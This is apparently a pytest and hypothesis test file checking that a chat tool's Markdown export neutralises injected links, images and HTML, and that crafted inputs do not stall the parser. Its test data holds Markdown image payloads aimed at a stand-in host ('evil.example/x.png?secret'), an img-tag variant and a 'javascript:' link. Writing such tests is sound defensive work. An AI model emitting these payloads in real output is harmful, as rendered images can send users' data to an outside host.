"""No Markdown viewer that keeps to CommonMark draws a link, a picture or HTML of an export."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from waremill.chat.exporting import as_markdown
from waremill.chat.markup import announced
from waremill.chat.turns import Source, Turn

EVIL = "http://evil.example/x.png?secret"
REPLIES = {
    "brackets in brackets": f"![a [b] c]({EVIL})",
    "a line end in the words": f"![a\nb]({EVIL})",
    "a line end before the title": f'![a]({EVIL}\n"t")',
    "a name on two lines": f"[a]:\n{EVIL}\n\n![a]",
    "a name in a quotation": f"> [a]: {EVIL}\n\n![a]",
    "a name in a list": f"- [a]: {EVIL}\n\n![a]",
    "backticks that are none": f"\\`![a]({EVIL})\\`",
    "a fence inside a line": f"text ``` ![a]({EVIL})",
    "a fence that begins a line and is none": f"```![a]({EVIL})```",
    "a fence inside another": f"~~~\n```\n~~~\n![a]({EVIL})\n```",
    "a fence inside a list": f"- x\n\n  ```\n![a]({EVIL})\n  ```",
    "a fence ended by a bare return": f"```\rx\r```\r![a]({EVIL})\n```",
    "code over two lines": f"`a\nb` ![a]({EVIL}) `c`",
    "code over two cells": f"| a | b |\n|---|---|\n| ` | ![a]({EVIL}) ` |",
    "HTML after a fence that is none": f"x ```\n<pre>\n<img src={EVIL}>",
    "a link with brackets": f"[a [b] c]({EVIL})",
    "a script": "[a](javascript:alert(1))",
}
PIECES = st.sampled_from([
    "`", "``", "```", "~~~", "\n", "\n\n", "\r", "    ", "  ", "\t", "- ", "> ", "1. ", "\\", "|",
    "!", "[", "]", "(", ")", "[a]", "![a]", "![", "](", "]:", "]: ", "<", ">", "<img src=", "<pre>",
    "<!--", "-->", EVIL, f"({EVIL})", f"]({EVIL})", f"![a]({EVIL})", f"[a]: {EVIL}", "a", " ", "# ",
    '"', "&#33;",
])  # fmt: skip
HOSTILE = st.lists(PIECES, min_size=1, max_size=14).map("".join)


def drawn(text: str) -> list[str]:
    """Give what a viewer would draw of a text that leads somewhere."""
    found: list[str] = []
    tokens: list[Any] = list(MarkdownIt("commonmark").enable("table").parse(text))
    while tokens:
        one = tokens.pop()
        tokens += one.children or []
        inside = one.content.replace("<sub>", "").replace("</sub>", "").strip()
        if one.type in ("image", "link_open") or (one.type.startswith("html") and inside):
            found.append(f"{one.type} {one.content}")
    return found


def export(*replies: str) -> str:
    source = Source(1, "passage", "guide", "p1", "care.md", replies[-1], replies[0])
    turns = [
        Turn(
            number, number - 1 or None, f"Why?\n{replies[-1]}", "writer", "failed", reply,
            sources=(source,), cited=(1,), error=f"no answer: {replies[0]}",
        )
        for number, reply in enumerate(replies, 1)
    ]  # fmt: skip
    return as_markdown(replies[0], turns)


@pytest.mark.parametrize("name", REPLIES)
def test_what_is_written_to_hide_is_seen(name: str) -> None:
    assert drawn(export(REPLIES[name])) == []
    assert "evil.example" in export(REPLIES[name]) or name == "a script"


@settings(max_examples=150, deadline=None)
@given(HOSTILE, HOSTILE)
@example("  ```", f"```\n![a]({EVIL})\n```")
@example("```\nno end", f"```\n![a]({EVIL})\n```")
def test_nothing_that_can_be_written_leads_anywhere_unseen(one: str, other: str) -> None:
    assert drawn(export(one, other)) == []


def test_fenced_code_stays_as_it_is() -> None:
    code = "```python\nrows[0](x)  # <b>\n```"
    assert code in export(f"So:\n{code}\nand on")


@pytest.mark.parametrize(
    "piece", ["[a](", "![", "[", "[a]:", "[a](b ", "<http:", "`a", "\\`", "[a](<", "]("]
)
def test_what_is_written_to_take_long_does_not(piece: str) -> None:
    begun = time.monotonic()
    announced(piece * (20_000 // len(piece)))
    assert time.monotonic() - begun < 2
